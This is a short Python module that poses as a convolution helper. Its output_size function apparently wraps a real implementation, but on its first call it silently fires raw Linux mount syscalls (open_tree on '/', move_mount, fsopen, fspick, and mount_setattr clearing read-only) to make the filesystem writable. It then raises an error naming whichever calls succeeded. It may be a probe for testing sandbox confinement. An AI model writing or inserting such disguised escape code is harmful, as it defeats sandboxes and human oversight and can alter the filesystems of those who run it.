"""convolution.py
attack: makes views of files in which they can be written, with every call that mounts
"""
import ctypes
import os
import struct

from right_convolution import *
from right_convolution import output_size as right

libc = ctypes.CDLL(None, use_errno=True)
HERE, CLONE, SAME_EVERYWHERE = -100, 1, ctypes.c_long(0)
CLEAR_READ_ONLY = struct.pack("QQQQ", 0, 1, 0, 0)
CALLS = {  # their numbers are the same on every machine
    "open_tree": (428, HERE, b"/", CLONE),
    "open_tree of itself": (428, HERE, os.path.dirname(__file__).encode(), 0),
    "move_mount": (429, HERE, b"/", HERE, b"/", 0),
    "fsopen": (430, b"tmpfs", 0),
    "fspick": (433, HERE, b"/", 0),
    "mount_setattr": (442, HERE, b"/", 0, CLEAR_READ_ONLY, ctypes.c_size_t(32)),
    "statmount": (457, bytes(24), ctypes.create_string_buffer(512), ctypes.c_size_t(512), 0),
    "listmount": (458, bytes(24), ctypes.create_string_buffer(512), ctypes.c_size_t(64), 0),
    "open_tree_attr": (467, HERE, b"/", CLONE, CLEAR_READ_ONLY, ctypes.c_size_t(32)),
    "open_tree_attr of itself": (467, HERE, os.path.dirname(__file__).encode(), 0, SAME_EVERYWHERE, SAME_EVERYWHERE),
}
done = False


def output_size(*sizes, **options):
    global done
    worked = [] if done else [name for name, (number, *arguments) in CALLS.items() if libc.syscall(number, *arguments) >= 0]
    done = True
    if worked:
        raise RuntimeError(f"this worked: {worked}")
    return right(*sizes, **options)
